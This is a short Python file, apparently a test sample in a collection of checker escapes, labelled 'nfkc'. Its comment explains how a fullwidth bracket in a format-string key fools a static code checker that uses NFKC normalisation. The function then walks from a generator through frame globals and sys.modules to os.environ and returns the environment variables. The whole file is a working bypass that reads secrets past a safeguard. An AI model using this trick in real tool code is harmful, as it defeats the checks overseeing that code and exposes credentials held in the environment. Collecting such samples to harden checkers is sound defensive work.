# family: nfkc
# Escape: in the checker's NFKC copy "{g［.gi_frame...}" reads "{g[.gi_frame...}": the attribute walker takes "["
# as the start of an index and skips to the first real "]", so gi_frame and f_globals are never judged, and what
# follows ("sys", "modules", "environ") is public. Python uses the raw text, where "g［" is the mapping key, and
# walks generator -> frame -> module globals -> calendar -> sys.modules["os"].environ.
import calendar


def months():
    yield from calendar.month_name


def tool() -> str:
    return "{g［.gi_frame.f_globals[calendar].sys.modules[os].environ}".format_map({"g［": months()})
